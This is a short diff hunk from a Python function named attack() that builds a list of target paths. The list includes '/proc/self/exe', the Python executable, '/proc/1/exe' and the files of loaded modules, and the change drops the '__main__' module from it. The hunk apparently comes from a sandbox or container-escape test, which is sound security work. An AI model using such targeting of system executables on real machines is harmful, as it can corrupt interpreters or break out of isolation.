@@ -7,7 +7,7 @@ def attack():
         "/proc/self/exe",
         sys.executable,
         "/proc/1/exe",
-        *[getattr(m, "__file__", None) for m in list(sys.modules.values())],
+        *[getattr(m, "__file__", None) for n, m in list(sys.modules.items()) if n != "__main__"],
     ):
         if not path:
             continue
